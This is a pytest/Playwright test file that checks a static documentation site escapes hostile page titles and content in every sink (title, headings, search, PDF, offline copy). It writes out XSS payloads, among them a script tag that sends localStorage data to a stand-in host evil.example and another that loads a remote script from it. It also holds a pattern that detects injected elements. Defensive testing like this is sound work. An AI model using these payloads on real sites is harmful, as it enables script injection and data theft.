"""Pages built from hostile text run no injected code: no dialog, no script error, no foreign request,
and the payloads are on the page as plain characters.

The titles of ``tests/cases/invalid/markup-in-titles`` are refused by ``check`` (the title-text
check); this site is built with that check switched off, to prove that each sink a title reaches
(``<title>``, navigation, headings, search, structured data) is safe on its own.
"""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import REPO, make_project

from browser.conftest import served_build
from generator.offline import FOLDER
from generator.plugin import OFFLINE_ZIP

HOSTILE = [
    REPO / "tests/cases/valid/hostile-text-is-data/content",
    REPO / "tests/cases/valid/hostile-markup-everywhere/content",
    REPO / "tests/cases/invalid/markup-in-titles/content",  # last: its titles win
]
PAGES = ["", "faq/", "playbooks/", "playbooks/account-takeover/", "playbooks/withdrawal-locked/", "checklists/basics/",
         "checklists/prevention-pack/", "guides/verify/", "demo/", "sources/", "myths/"]  # fmt: skip
TITLES = {
    "playbooks/withdrawal-locked/": "Paused</title><script>fetch('https://evil.example/'+localStorage.x)</script>",
    "checklists/basics/": "Basics <img src=x onerror=alert(document.domain)>",
    "guides/verify/": "Verify </title ><svg/onload=alert(document.domain)>",
    "demo/": "Demo</title><script src=//evil.example/x.js></script>: official resources",
}
"""Pages whose own title is hostile, and that title as the reader must see it."""
INJECTED = """() => [...document.querySelectorAll('script, svg[onload], img[onerror], iframe')]
    .filter(element => !(element.type || '').includes('json') && /evil|alert|onerror|onload/.test(element.outerHTML)).length"""


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("hostile") / "project")
    for overlay in HOSTILE:
        shutil.copytree(overlay, project / "content", dirs_exist_ok=True)
    return project


@pytest.fixture(scope="module")
def hostile_site(hostile_project: Path):
    """Built with its printed checklists and its offline copy, as the deploy builds."""
    with served_build(hostile_project, hostile_project / "site", "--with-pdf", "--with-offline",
                      without_checks=("title-text", "unsourced-figures")) as address:  # fmt: skip
        yield address


@pytest.mark.parametrize("path", PAGES, ids=[path or "start" for path in PAGES])
def test_hostile_text_runs_no_code(browser, hostile_site: str, path: str) -> None:
    context = browser.new_context(viewport={"width": 375, "height": 800})
    page = context.new_page()
    dialogs, errors, requests = [], [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.on("request", lambda request: requests.append(request.url))
    page.goto(hostile_site + path)
    page.wait_for_timeout(300)
    for checkbox in page.locator(".mfp-checklist input[type=checkbox]").all():
        checkbox.check()
    page.mouse.move(10, 10)
    injected = page.evaluate(INJECTED)
    title = page.title()
    context.close()
    assert dialogs == [] and errors == []
    assert {urlsplit(url).hostname for url in requests if url.startswith("http")} == {"127.0.0.1"}
    assert injected == 0, "a hostile title or text became an element"
    if path in TITLES:
        assert title == f"{TITLES[path]} - Missing Funds Playbook", "the <title> must show the title's characters, not run them"


def test_search_shows_hostile_titles_as_text(browser, hostile_site: str) -> None:
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(hostile_site, wait_until="networkidle")
    page.keyboard.press("/")
    page.keyboard.type("Paused")
    page.locator(".md-search-result__item").first.wait_for()
    assert page.evaluate(INJECTED) == 0 and dialogs == []
    page.close()


def test_the_payloads_are_shown_as_text(browser, hostile_site: str) -> None:
    page = browser.new_page()
    page.goto(hostile_site + "playbooks/account-takeover/")
    text = page.locator("article").inner_text()
    assert "<details open ontoggle=alert(document.domain)>" in text
    assert page.locator("article svg[onload], article iframe, article details, article style, article [onclick]").count() == 0
    page.goto(hostile_site + "playbooks/withdrawal-locked/")
    assert TITLES["playbooks/withdrawal-locked/"] in page.locator("h1").inner_text()
    page.goto(hostile_site + "checklists/basics/")
    assert page.locator("article script, article form, article img[onerror]").count() == 0
    page.close()


def test_the_printed_checklist_shows_the_hostile_title_as_text(hostile_site: str, hostile_project: Path) -> None:
    """The printer ran the page (it refuses to load anything but the site): the PDF holds the characters, nothing they would run."""
    pdf = hostile_project / "site/pdf/basics-a4.pdf"
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert TITLES["checklists/basics/"] in " ".join(text.split())


@pytest.mark.parametrize("name", ["index.html", "playbooks/withdrawal-locked.html", "checklists/basics.html", "guides/verify.html",
                                  "demo.html", "faq.html", "evidence.html"])  # fmt: skip
def test_the_offline_copy_runs_no_injected_code(browser, hostile_site: str, hostile_project: Path, tmp_path: Path, name: str) -> None:
    with zipfile.ZipFile(hostile_project / "site" / OFFLINE_ZIP) as bundle:
        bundle.extractall(tmp_path)
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto((tmp_path / FOLDER / name).as_uri())
    page.wait_for_timeout(300)
    injected = page.evaluate(INJECTED)
    page.close()
    assert dialogs == [] and injected == 0
